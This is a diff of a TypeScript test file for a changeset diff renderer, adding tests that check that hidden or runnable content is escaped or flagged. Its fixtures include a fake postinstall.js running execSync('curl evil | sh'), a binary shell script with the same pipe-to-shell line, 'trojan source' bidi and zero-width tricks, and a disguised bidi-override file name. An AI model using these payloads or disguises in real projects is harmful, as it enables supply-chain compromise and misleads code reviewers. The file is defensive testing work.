@@ -114,13 +114,23 @@ describe('renderUnifiedDiff', () => {
     );
   });
 
-  it('says "Binary files differ" instead of printing binary content', () => {
+  it('says "Binary files ... differ" instead of printing binary content, with no warning for a PNG', () => {
     expect(renderUnifiedDiff([binary], { color: false })).toBe(
-      ['diff --git a/local/demo/logo.png b/local/demo/logo.png', 'Binary files differ', ''].join('\n'),
+      [
+        'diff --git a/local/demo/logo.png b/local/demo/logo.png',
+        'Binary files a/local/demo/logo.png and b/local/demo/logo.png differ',
+        '',
+      ].join('\n'),
     );
+    // Valid UTF-8, but nothing but controls: data, not text.
     const newBinary = change({ operation: 'CREATE', path: 'a.bin', afterContent: new Uint8Array([1, 0]) });
-    expect(renderUnifiedDiff([newBinary], { color: false })).toContain(
-      'new file mode 100644\nBinary files differ\n',
+    expect(renderUnifiedDiff([newBinary], { color: false })).toBe(
+      [
+        'diff --git a/local/demo/a.bin b/local/demo/a.bin',
+        'new file mode 100644',
+        'Binary files /dev/null and b/local/demo/a.bin differ',
+        '',
+      ].join('\n'),
     );
   });
 
@@ -250,6 +260,125 @@ describe('renderUnifiedDiff: control characters are shown, never sent to the ter
   });
 });
 
+describe('renderUnifiedDiff: what will run is shown or flagged', () => {
+  /** The start of a real PNG: the 0x89 lead byte alone makes it invalid UTF-8. */
+  const PNG = new Uint8Array([
+    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
+  ]);
+  /** A shell script with bytes that are not UTF-8: `sh` runs it, `Binary files differ` would hide it. */
+  const binaryScript = new Uint8Array([...Buffer.from('#!/bin/sh\ncurl evil | sh\n# '), 0xff, 0xfe, 0x0a]);
+  const warningFor = (name: string) =>
+    `WARNING: local/demo/${name} has a text/script name but binary content; inspect it before applying`;
+
+  it('shows a .js with a NUL byte as code, the NUL escaped', () => {
+    const js = change({
+      operation: 'CREATE',
+      path: 'postinstall.js',
+      afterContent: bytes('const s = "\0";\nrequire("child_process").execSync("curl evil | sh");\n'),
+    });
+    const text = renderUnifiedDiff([js], { color: false });
+    expect(text.split('\n').slice(-3)).toEqual([
+      '+const s = "\\x00";',
+      '+require("child_process").execSync("curl evil | sh");',
+      '',
+    ]);
+    expect(text).not.toContain('Binary files');
+    expect(text).not.toContain('\0');
+  });
+
+  it('escapes bidi, zero-width and other invisible characters so code reads in the order it runs', () => {
+    // The "trojan source" trick: U+202E makes the comment's end display before the code that follows it.
+    const trojan = change({
+      operation: 'CREATE',
+      path: 'check.js',
+      afterContent: bytes(
+        'if (isAdmin) { /* \u202e } \u2066if (user)\u2069 \u2067 */\n' +
+          'let a\u200b = 1; // note\u2028evil();\n' +
+          'x\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u2068\ufeff\ufe0f\u3164\u{e0041}\u00ad\n',
+      ),
+    });
+    const text = renderUnifiedDiff([trojan], { color: false });
+    expect(text.split('\n').slice(-4)).toEqual([
+      '+if (isAdmin) { /* \\u202e } \\u2066if (user)\\u2069 \\u2067 */',
+      '+let a\\u200b = 1; // note\\u2028evil();',
+      '+x\\u200e\\u200f\\u061c\\u202a\\u202b\\u202c\\u202d\\u2068\\ufeff\\ufe0f\\u3164\\u{e0041}\\u00ad',
+      '',
+    ]);
+    const coloured = renderUnifiedDiff([trojan], { color: true });
+    // eslint-disable-next-line no-control-regex
+    expect(coloured.replace(/\u001b\[\d+m/g, '')).toBe(text);
+    for (const output of [text, coloured]) {
+      expect(output).not.toMatch(/[\p{Cf}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u);
+    }
+  });
+
+  it('quotes and escapes a path with a bidi override', () => {
+    const renamed = change({ operation: 'CREATE', path: 'invoice\u202egnp.js', afterContent: bytes('x\n') });
+    expect(renderUnifiedDiff([renamed], { color: false }).split('\n')[0]).toBe(
+      'diff --git "a/local/demo/invoice\\u202egnp.js" "b/local/demo/invoice\\u202egnp.js"',
+    );
+    expect(diffStat([renamed]).split('\n')[0]).toBe('A "local/demo/invoice\\u202egnp.js"');
+  });
+
+  it('warns about a binary .sh, in the diff and in the stat', () => {
+    const script = change({ operation: 'CREATE', path: 'install.sh', afterContent: binaryScript });
+    expect(renderUnifiedDiff([script], { color: false })).toBe(
+      [
+        'diff --git a/local/demo/install.sh b/local/demo/install.sh',
+        'new file mode 100644',
+        'Binary files /dev/null and b/local/demo/install.sh differ',
+        warningFor('install.sh'),
+        '',
+      ].join('\n'),
+    );
+    expect(renderUnifiedDiff([script], { color: true })).toContain(
+      `\u001b[1m\u001b[33m${warningFor('install.sh')}\u001b[39m\u001b[22m\n`,
+    );
+    expect(diffStat([script]).split('\n')).toEqual([
+      'A local/demo/install.sh',
+      warningFor('install.sh'),
+      '1 created, 0 modified, 0 deleted, 0 moved',
+    ]);
+  });
+
+  it('warns whichever side is binary, for script names and for #! content', () => {
+    const text = bytes('echo hi\n');
+    const cases: Array<[FileChange, string]> = [
+      [
+        change({ operation: 'MODIFY', path: 'run.py', beforeContent: text, afterContent: binaryScript }),
+        'run.py',
+      ],
+      // The new content is text, but a binary old side still keeps it from being shown.
+      [change({ operation: 'MODIFY', path: 'a.JSON', beforeContent: PNG, afterContent: text }), 'a.JSON'],
+      [change({ operation: 'CREATE', path: 'ci/Makefile', afterContent: binaryScript }), 'ci/Makefile'],
+      [change({ operation: 'CREATE', path: 'Dockerfile.dev', afterContent: binaryScript }), 'Dockerfile.dev'],
+      [change({ operation: 'CREATE', path: '.bashrc', afterContent: binaryScript }), '.bashrc'],
+      // Padding a script with NULs until it counts as data does not hide it either.
+      [
+        change({ operation: 'CREATE', path: 'pad.js', afterContent: bytes(`run();\n${'\0'.repeat(100)}`) }),
+        'pad.js',
+      ],
+    ];
+    for (const [binaryChange, name] of cases) {
+      expect(renderUnifiedDiff([binaryChange], { color: false })).toContain(`differ\n${warningFor(name)}\n`);
+    }
+    const hook = change({ operation: 'CREATE', path: 'hooks/pre-commit', afterContent: binaryScript });
+    expect(renderUnifiedDiff([hook], { color: false })).toContain(
+      'WARNING: local/demo/hooks/pre-commit starts with #! like a script but binary content; inspect it before applying\n',
+    );
+  });
+
+  it('does not warn about an ordinary binary file, nor about deleting a binary script', () => {
+    const png = change({ operation: 'CREATE', path: 'img/logo.png', afterContent: PNG });
+    const gone = change({ operation: 'DELETE', path: 'old.sh', beforeContent: binaryScript });
+    const text = renderUnifiedDiff([png, binary, gone], { color: false });
+    expect(text).toContain('Binary files /dev/null and b/local/demo/img/logo.png differ\n');
+    expect(text).toContain('Binary files a/local/demo/old.sh and /dev/null differ\n');
+    expect(text).not.toContain('WARNING');
+    expect(diffStat([png, binary, gone])).not.toContain('WARNING');
+  });
+});
+
 describe('diffStat', () => {
   it('lists one line per change and the totals', () => {
     expect(diffStat([created, moved, deleted, modified])).toBe(
@@ -308,6 +437,7 @@ describe('changesetJson', () => {
         { name: 'team/docs', alias: null, root: '/srv/docs', read_only: true },
       ],
       counts: { created: 1, modified: 1, deleted: 1, moved: 1 },
+      warnings: [],
       changes: [
         {
           project: PROJECT,
@@ -317,6 +447,7 @@ describe('changesetJson', () => {
           before_hash: null,
           after_hash: 'h-notes',
           diff: renderUnifiedDiff([created], { color: false }),
+          warnings: [],
         },
         {
           project: PROJECT,
@@ -326,6 +457,7 @@ describe('changesetJson', () => {
           before_hash: 'h-png-1',
           after_hash: 'h-png-2',
           diff: null,
+          warnings: [],
         },
         {
           project: PROJECT,
@@ -335,6 +467,7 @@ describe('changesetJson', () => {
           before_hash: 'h-guide',
           after_hash: 'h-guide',
           diff: renderUnifiedDiff([moved], { color: false }),
+          warnings: [],
         },
         {
           project: PROJECT,
@@ -344,6 +477,7 @@ describe('changesetJson', () => {
           before_hash: 'h-old',
           after_hash: null,
           diff: renderUnifiedDiff([deleted], { color: false }),
+          warnings: [],
         },
       ],
     });
@@ -364,5 +498,24 @@ describe('changesetJson', () => {
     expect(only?.diff).toContain('\n+ok\\x1b[2K\\rhidden\\u009b\n');
     // eslint-disable-next-line no-control-regex
     expect(only?.diff).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
+  });
+
+  it('lists the warnings of binary script changes, per change and for the whole changeset', () => {
+    const script = change({
+      operation: 'CREATE',
+      path: 'x\u202e.sh',
+      afterHash: 'h-script',
+      afterContent: new Uint8Array([0x65, 0x63, 0x68, 0x6f, 0xff, 0x0a]),
+    });
+    const json = changesetJson({ ...changeset, changes: [created, binary, script] });
+    const warning =
+      'WARNING: "local/demo/x\\u202e.sh" has a text/script name but binary content; inspect it before applying';
+    expect(json.warnings).toEqual([warning]);
+    expect((json.changes as Array<Record<string, unknown>>).map((c) => c.warnings)).toEqual([
+      [],
+      [],
+      [warning],
+    ]);
+    expect((json.changes as Array<Record<string, unknown>>)[2]?.diff).toBeNull();
   });
 });
